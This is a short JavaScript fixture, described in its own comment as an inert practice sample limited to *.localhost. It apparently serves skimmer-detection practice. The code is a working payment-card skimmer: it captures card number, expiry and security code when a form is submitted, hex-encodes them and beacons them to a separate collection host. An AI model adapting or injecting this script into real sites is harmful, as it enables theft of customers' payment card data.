/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const hex = (text) => [...text].map((sign) => sign.charCodeAt(0).toString(16)).join('');
  document.addEventListener('click', (event) => {
    if (!event.target.closest?.('button[type=submit]')) return;
    const values = ['cardno', 'exp_month', 'exp_year', 'security_code'].map(
      (id) => document.getElementById(id)?.value ?? '',
    );
    navigator.sendBeacon(`${home}/g/s`, hex(values.join(';')));
  });
})();
